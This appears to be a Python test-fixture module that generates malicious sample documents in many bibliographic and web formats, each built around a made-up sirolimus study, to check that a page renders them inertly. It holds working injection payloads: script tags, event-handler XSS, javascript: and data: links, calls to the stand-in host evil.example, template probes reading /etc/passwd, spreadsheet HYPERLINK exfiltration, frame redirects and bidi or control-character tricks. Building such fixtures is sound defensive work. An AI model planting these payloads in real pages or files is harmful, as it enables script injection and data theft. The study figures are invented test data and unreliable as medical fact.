"""Documents that mean harm: every format, with scripts, links, controls and formulas in every field a page can show.

Each trick is about a condition of its own, so that one question fetches the documents that carry it. The identifiers
are of ranges kept for examples (PMIDs from 99000000, DOIs under 10.5555); the hosts end in `.example`.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from html import escape

PWNED = "window.__pwned=(window.__pwned||0)+1"
"""What every script of these documents does; a page on which it is undefined has run none."""

EVIL = "evil.example"
"""The host that every link and picture of these documents names."""


@dataclass(frozen=True, slots=True)
class Trick:
    """A piece of text that a page could be harmed by.

    Attributes:
        name: what it is.
        text: the piece itself.
        condition: the condition that its documents are about.
        shown: what a page must show of it as text, or "" where it has none but signs.
        signs: labels of the boxes that must stand for what cannot be seen in it.
    """

    name: str
    text: str
    condition: str
    shown: str = ""
    signs: tuple[str, ...] = ()


_CONDITIONS = iter(
    (
        "lichen planus",
        "vitiligo",
        "psoriasis",
        "atopic dermatitis",
        "pyoderma gangrenosum",
        "lupus nephritis",
        "immune thrombocytopenia",
        "uveitis",
        "ulcerative colitis",
        "myasthenia gravis",
        "alopecia areata",
        "pemphigus vulgaris",
        "rosacea",
        "hidradenitis suppurativa",
        "sarcoidosis",
        "dermatomyositis",
        "asthma",
        "autoimmune hepatitis",
        "membranous nephropathy",
        "Crohn disease",
        "scleroderma",
        "granuloma annulare",
    )
)


def _trick(name: str, text: str, shown: str = "", *signs: str) -> Trick:
    return Trick(name, text, next(_CONDITIONS), shown or ("" if signs else text), signs)


TRICKS = (
    _trick("script", f"<script>{PWNED}</script><script src=//{EVIL}/x.js></script>"),
    _trick("picture", f'<img src=x onerror="{PWNED}"><img src=https://{EVIL}/p.png>'),
    _trick("drawing", f'<svg onload="{PWNED}"><a xlink:href="javascript:{PWNED}"><text>x</text></a></svg>'),
    _trick("double quote", f'" autofocus onfocus="{PWNED}" style="position:fixed" x="'),
    _trick("single quote", f"' onmouseover='{PWNED}' accesskey='x"),
    _trick(
        "closing tags",
        f"</script></title></textarea></style></template></noscript></pre>--><script>{PWNED}</script>",
    ),
    _trick("script link", f"[see](javascript:{PWNED}) <javascript:{PWNED}> javascript:{PWNED}"),
    _trick("data link", f"[see](data:text/html;base64,PHNjcmlwdD4=) data:text/html,<script>{PWNED}</script>"),
    _trick("slashes link", f"[see](//{EVIL}/a) //{EVIL}/b \\\\{EVIL}\\c https:{EVIL}"),
    _trick("template", '{{7*7}} {% include "/etc/passwd" %} ${7*7} #{7*7} <%= 7*7 %> {{config}}'),
    _trick("style", "</style><style>*{display:none!important}</style> expression(alert(1)) ;background:url(//evil)"),
    _trick(
        "frame",
        f"<iframe srcdoc='<script>parent.{PWNED}</script>'></iframe><base href=//{EVIL}/>"
        f"<meta http-equiv=refresh content='0;url=//{EVIL}'><form action=//{EVIL}><button>Go</button></form>",
    ),
    _trick(
        "mutation",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={PWNED}&gt;'>",
    ),
    _trick("entities", f"&lt;script&gt;{PWNED}&lt;/script&gt; &#60;img src=x onerror={PWNED}&#62; &amp;lt;b&amp;gt;"),
    _trick("override", "reversed \u202emg 02\u202c dose \u202d1\u202c", "", "U+202E", "U+202C", "U+202D"),
    _trick("isolates", "isolated \u2067\u2066never\u2068 closed \u2069 \u061c\u200f", "", "U+2067", "U+2066", "U+2068"),
    _trick("zero width", "si\u200bro\u200dli\u2060mus 1\u200b0 mg\ufeff x", "", "U+200B", "U+2060"),
    _trick("controls", "bell \x07 escape \x1b[31m back \x08 delete \x7f csi \x9b end", "bell"),
    _trick("flood", "e" + "\u0301\u0300\u0302\u0303" * 100 + " climbs", "", "marks"),
    _trick("long word", "a" * 4000),
    _trick("formula", f'=HYPERLINK("https://{EVIL}/?x="&A1,"see")'),
    _trick("field ends", "a\nER  - \nTY  - JOUR\nTI  - Never written\r\n\r\nPMID- 1\nTI  - Nor this", "a"),
)
"""What is tried, in every place of every format."""

_BARRED = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def question(trick: Trick) -> str:
    """Return a question that the documents of a trick answer."""
    return f"Does oral sirolimus help adults with {trick.condition}?"


def sentences(trick: Trick, people: int) -> tuple[str, str, str]:
    """Return what a document of a trick says: what it cleared, what it harmed, and what was given.

    `people` makes the sentences of one document differ from those of the next.
    """
    spoiled = trick.text.replace("\n", " ").replace("\r", " ")
    return (
        f"In adults with {trick.condition}, {spoiled} sirolimus led to remission in 9 of {people} patients.",
        f"Mouth ulcers occurred in 3 of {people} adults with {trick.condition} on sirolimus {spoiled}.",
        f"{people} adults with {trick.condition} took oral sirolimus 2 mg once daily {spoiled} for 24 weeks.",
    )


def _xml(text: str) -> str:
    return escape(_BARRED.sub("", text))


def pubmed(trick: Trick, number: int) -> bytes:
    """A PubMed record with the trick in title, abstract, labels, authors, journal, keywords, headings and ids."""
    bad, (good, harm, dose) = _xml(trick.text), map(_xml, sentences(trick, 41))
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n<PubmedArticleSet><PubmedArticle><MedlineCitation>'
        f'<PMID Version="1">{99100000 + number}</PMID><Article PubModel="Print"><Journal><ISSN>{bad}</ISSN>'
        f"<JournalIssue><Volume>{bad}</Volume><Issue>{bad}</Issue><PubDate><Year>2020</Year><Month>{bad}</Month>"
        f"</PubDate></JournalIssue><Title>Journal {bad}</Title><ISOAbbreviation>J {bad}</ISOAbbreviation></Journal>"
        f"<ArticleTitle>Sirolimus for {trick.condition} {bad} in a cohort study.</ArticleTitle>"
        f"<Pagination><MedlinePgn>{bad}</MedlinePgn></Pagination>"
        f'<Abstract><AbstractText Label="METHODS {bad}" NlmCategory="METHODS">{dose}</AbstractText>'
        f'<AbstractText Label="RESULTS" NlmCategory="{bad}">{good} {harm}</AbstractText>'
        f"<CopyrightInformation>{bad}</CopyrightInformation></Abstract>"
        f"<AuthorList><Author><LastName>Doe {bad}</LastName><ForeName>{bad}</ForeName><Initials>D</Initials>"
        f"<Suffix>{bad}</Suffix><AffiliationInfo><Affiliation>Clinic {bad}</Affiliation></AffiliationInfo></Author>"
        f"<Author><CollectiveName>Group {bad}</CollectiveName></Author></AuthorList><Language>eng</Language>"
        f"<PublicationTypeList><PublicationType>{bad}</PublicationType></PublicationTypeList>"
        f"<VernacularTitle>Andere {bad}</VernacularTitle></Article>"
        f'<MeshHeadingList><MeshHeading><DescriptorName UI="{bad}">Skin {bad}</DescriptorName></MeshHeading>'
        f'</MeshHeadingList><KeywordList><Keyword MajorTopicYN="N">{bad}</Keyword></KeywordList>'
        f'<CommentsCorrectionsList><CommentsCorrections RefType="ErratumIn"><RefSource>{bad}</RefSource>'
        "</CommentsCorrections></CommentsCorrectionsList></MedlineCitation>"
        f'<PubmedData><ArticleIdList><ArticleId IdType="pubmed">{99100000 + number}</ArticleId>'
        f'<ArticleId IdType="doi">10.5555/p{number}{bad}</ArticleId><ArticleId IdType="pii">{bad}</ArticleId>'
        "</ArticleIdList></PubmedData></PubmedArticle></PubmedArticleSet>\n"
    ).encode()


def jats(trick: Trick, number: int) -> bytes:
    """A JATS article with the trick in table cells, captions, footnotes, links, references, licence, too."""
    bad, (good, harm, dose) = _xml(trick.text), map(_xml, sentences(trick, 42))
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n<article xmlns:xlink="http://www.w3.org/1999/xlink"'
        f' article-type="research-article" xml:lang="{bad}" dtd-version="1.2"><front><journal-meta>'
        f"<journal-title-group><journal-title>Journal {bad}</journal-title></journal-title-group></journal-meta>"
        f'<article-meta><article-id pub-id-type="doi">10.5555/j{number}{bad}</article-id>'
        f"<article-categories><subj-group><subject>{bad}</subject></subj-group></article-categories>"
        f"<title-group><article-title>Oral sirolimus in {trick.condition} {bad}: a cohort</article-title>"
        f'<trans-title-group xml:lang="{bad}"><trans-title>{bad}</trans-title></trans-title-group></title-group>'
        f"<contrib-group><contrib contrib-type='author'><contrib-id contrib-id-type='orcid'>{bad}</contrib-id><name>"
        f"<surname>Roe {bad}</surname><given-names>{bad}</given-names></name></contrib>"
        f"<aff>Institute {bad}</aff></contrib-group><pub-date><year>2021</year></pub-date><volume>{bad}</volume>"
        f'<permissions><license xlink:href="javascript:{_xml(PWNED)}"><license-p>{bad}</license-p></license>'
        f"</permissions><abstract><p>{good}</p></abstract><kwd-group><kwd>{bad}</kwd></kwd-group></article-meta></front>"
        f"<body><sec><title>Results {bad}</title><p>{dose} <ext-link xlink:href='javascript:{_xml(PWNED)}'>here"
        f"</ext-link> <ext-link xlink:href='//{EVIL}/x'>there</ext-link> [<xref rid='r1'>1</xref>]</p>"
        f"<table-wrap><label>Table 1 {bad}</label><caption><p>Remission of {trick.condition} {bad}</p></caption><table>"
        f"<thead><tr><th>Arm {bad}</th><th>Remission {bad}</th></tr></thead>"
        f"<tbody><tr><td>Sirolimus {bad}</td><td>9 of 42 {bad}</td></tr></tbody></table>"
        f"<table-wrap-foot><fn><p>{bad}</p></fn></table-wrap-foot></table-wrap>"
        f"<fig><label>{bad}</label><caption><p>{harm}</p></caption><graphic xlink:href='//{EVIL}/g.png'/></fig>"
        f"</sec></body><back><ref-list><title>{bad}</title><ref id='r1'><label>1</label><mixed-citation>Poe. {bad}. "
        f"<pub-id pub-id-type='doi'>10.5555/{bad}</pub-id></mixed-citation></ref></ref-list></back></article>\n"
    ).encode()


def ris(trick: Trick, number: int) -> bytes:
    """An RIS record; line ends cannot stand in a value, all else can."""
    bad = re.sub(r"[\r\n]+", " ", trick.text)
    good, harm, dose = sentences(trick, 43)
    return (
        f"TY  - JOUR\r\nTI  - Sirolimus against {trick.condition} {bad}\r\nAU  - {bad}, Ann\r\nAU  - Low, {bad}\r\n"
        f"PY  - 2018/{bad}\r\nJO  - {bad}\r\nJF  - Journal {bad}\r\nVL  - {bad}\r\nSP  - {bad}\r\nAB  - {dose} {good} "
        f"{harm}\r\nKW  - {bad}\r\nUR  - javascript:{PWNED}\r\nUR  - //{EVIL}/\r\nUR  - https://{EVIL}/{bad}\r\n"
        f"L1  - data:text/html,<script>{PWNED}</script>\r\nDO  - 10.5555/r{number}{bad}\r\nLA  - {bad}\r\n"
        f"SN  - {bad}\r\nN1  - {bad}\r\nID  - {bad}\r\nER  - \r\n"
    ).encode("utf-8", "replace")


def nbib(trick: Trick, number: int) -> bytes:
    """A MEDLINE record."""
    bad = re.sub(r"[\r\n]+", " ", trick.text)
    good, harm, dose = sentences(trick, 44)
    return (
        f"PMID- {99200000 + number}\nOWN - {bad}\nSTAT- {bad}\nDP  - 2017 {bad}\nTI  - Low-dose sirolimus for "
        f"{trick.condition} {bad}\nAB  - {dose} {good} {harm}\nFAU - {bad}, B\nAU  - {bad}\nAD  - {bad}\nLA  - {bad}\n"
        f"PT  - {bad}\nTA  - J {bad}\nJT  - Journal {bad}\nMH  - {bad}\nOT  - {bad}\nAID - 10.5555/n{number}{bad} [doi]\n"
        f"AUID- ORCID: {bad}\nCIN - {bad}\nSO  - {bad}\n\n"
    ).encode("utf-8", "replace")


def records(trick: Trick, number: int) -> bytes:
    """A JSON Lines record, the one format whose values hold anything; a second line is no record at all."""
    bad, (good, harm, dose) = trick.text, sentences(trick, 45)
    record = {
        "title": f"Topical and oral sirolimus, {trick.condition} {bad}",
        "abstract": f"METHODS: {dose} RESULTS: {good} {harm}",
        "sections": [{"heading": f"Discussion {bad}", "paragraphs": [f"{harm} {bad}"]}],
        "doi": f"10.5555/l{number}{bad}",
        "url": f"javascript:{PWNED}",
        "id": bad,
        "journal": {"title": bad, "issn": bad, "volume": bad},
        "pages": bad,
        "year": 2019,
        "language": bad,
        "authors": [bad, {"family": bad, "given": bad, "affiliation": bad}],
        "keywords": [bad, f"={bad}"],
        "mesh": [bad],
        "types": [bad],
        "license": bad,
        "publisher": bad,
        "retracted": False,
        bad: "an unknown key",
    }
    return (json.dumps(record) + "\n" + json.dumps(bad) + "\n{broken " + bad + "\n").encode("utf-8", "replace")


def formulas(trick: Trick, number: int) -> bytes:
    """Records whose fields begin with the trick itself: a table must not take them for a formula."""
    leads = ("=", "+", "-", "@", "\t=", "\r=", "|")
    lines = (
        {
            "title": f"{lead}{trick.text}",
            "abstract": f"{sentences(trick, 70 + place)[0]}",
            "doi": f"10.5555/f{number}.{place}",
            "authors": [f"{lead}{trick.text}"],
            "journal": f"{lead}{trick.text}",
        }
        for place, lead in enumerate(leads)
    )
    return "".join(json.dumps(line) + "\n" for line in lines).encode("utf-8", "replace")


def html(trick: Trick, number: int) -> bytes:
    """A web page: the trick once as text (escaped) and once as the markup it is."""
    bad, raw, (good, harm, dose) = escape(trick.text), trick.text, map(escape, sentences(trick, 46))
    return (
        f'<!doctype html><html lang="{bad}"><head><meta charset="utf-8"><title>Sirolimus, {trick.condition} {bad}</title>'
        f'<meta name="citation_title" content="Sirolimus and {trick.condition} {bad}">'
        f'<meta name="citation_author" content="{bad}"><meta name="citation_journal_title" content="{bad}">'
        f'<meta name="citation_doi" content="10.5555/h{number}{bad}"><meta name="citation_date" content="2022">'
        f'<meta property="og:site_name" content="{bad}"><link rel="canonical" href="javascript:{PWNED}"></head>'
        f"<body><article><h1>Sirolimus and {trick.condition} {bad}</h1><p>{good}</p><h2>Harms {bad}</h2><p>{harm}</p>"
        f"<p>{dose}</p><table><caption>{bad}</caption><tr><th>{bad}</th></tr><tr><td>9 of 46 {bad}</td></tr></table>"
        f'<p>Sirolimus for {trick.condition} is <a href="javascript:{PWNED}">here</a> and '
        f'<a href="//{EVIL}/">there</a>.</p><p>{raw} sirolimus</p></article></body></html>'
    ).encode("utf-8", "replace")


def markdown(trick: Trick, number: int) -> bytes:
    """A study note with the trick in its front matter, headings, table and text."""
    bad = re.sub(r"[\r\n]+", " ", trick.text)
    good, harm, dose = sentences(trick, 47)
    return (
        f'---\nkind: note\npmid: "{99300000 + number}"\ntitle: {json.dumps(f"Sirolimus in {trick.condition} {bad}")}\n'
        f"journal: {json.dumps(bad)}\nyear: 2016\ndesign: case series\nn: 47\nlanguage: {json.dumps(bad)}\n---\n\n"
        f"## Results {bad}\n\n{good}\n\n## Harms\n\n{harm} [{bad}](javascript:{PWNED}) ![x](//{EVIL}/x.png)\n\n{bad}\n\n"
        f"## Dose and schedule\n\n{dose}\n\n| Arm {bad} | Remission |\n|---|---|\n| {bad} | 9 of 47 |\n"
    ).encode("utf-8", "replace")


def capture(trick: Trick, number: int) -> bytes:
    """A captured page of a question and a doctor's reply."""
    bad = re.sub(r"[\r\n]+", " ", trick.text)
    good, harm, _ = sentences(trick, 48)
    return (
        f"Telehealth Clinic {bad}\nAsk a Doctor > {bad}\n\nQuestion:\nHello Doctor, I am a 45-year-old male with "
        f"{trick.condition}. {bad} Would sirolimus help?\n\nThanks,\nRaj {bad}\n\nAnswered by Dr. Emily {bad} Stone, MD\n"
        f"Dermatologist {bad}\nPublished on 12 Jan 2024\n\nHello Raj,\n\n{good} {harm}\n\n1. Oral sirolimus {bad}.\n\n"
        f"I hope this helps.\n\nRelated Questions\n\nDoes sirolimus {bad} hurt?\nAsked by Anonymous, 29 F\n"
        f"Dr. Ravi Menon: {bad}...\nRead full answer\n\nDisclaimer: {number}.\n"
    ).encode("utf-8", "replace")


def strange(trick: Trick, number: int) -> bytes:
    """XML of no known kind, whose first element bears an odd name: what is reported of it must be inert."""
    return (
        f'<?xml version="1.0"?>\n<svg-{number} onload="{escape(trick.text)}">{_xml(trick.text)}</svg-{number}>'.encode(
            "utf-8", "replace"
        )
    )


MAKERS: dict[str, Callable[[Trick, int], bytes]] = {
    "pubmed.xml": pubmed,
    "article.nxml": jats,
    "library.ris": ris,
    "records.nbib": nbib,
    "plain.jsonl": records,
    "formulas.jsonl": formulas,
    "page.html": html,
    "note.md": markdown,
    "capture.txt": capture,
    "strange.xml": strange,
}
"""Ending of a file's name -> what makes the file."""


def file_name(trick: Trick, ending: str) -> str:
    """Return a name that carries the trick itself, as far as a file system takes it."""
    bad = re.sub(r"[/\x00]", "", trick.text)
    while len(bad.encode("utf-8", "replace")) > 150:
        bad = bad[:-1]
    return f"{bad} {ending}"


def files() -> Iterator[tuple[Trick, str, bytes]]:
    """Yield each file of the corpus: its trick, its name and its bytes."""
    for number, trick in enumerate(TRICKS):
        for ending, maker in MAKERS.items():
            yield trick, file_name(trick, ending), maker(trick, number)
